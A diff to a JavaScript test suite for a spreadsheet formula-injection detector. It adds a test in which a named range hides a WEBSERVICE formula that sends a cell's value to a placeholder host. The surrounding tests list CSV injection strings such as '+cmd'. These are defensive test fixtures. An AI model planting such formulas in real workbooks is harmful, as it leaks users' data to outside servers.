@@ -144,6 +144,13 @@ describe('formula injection', () => {
     ])
   })
 
+  test('a formula that hides behind a name', () => {
+    const names = [{ name: 'total', refersTo: 'WEBSERVICE("http://x?"&A!$A$1)' }, { name: 'plain', refersTo: 'A!$A$1' }]
+    expect(findInjections({ ...workbookOf({ A: [[1, '=total']] }), names })).toMatchObject([
+      { cell: 'total', code: 'reaches_out' },
+    ])
+  })
+
   test('text of a CSV that another program would run', () => {
     const csv = openWorkbook(new TextEncoder().encode('=1+1,@x,+cmd,-cmd,"\tx",-5,+49 170 123,a=b\n'))
     expect(findInjections(csv).map(({ cell }) => cell)).toEqual(['A1', 'B1', 'C1', 'D1', 'E1'])
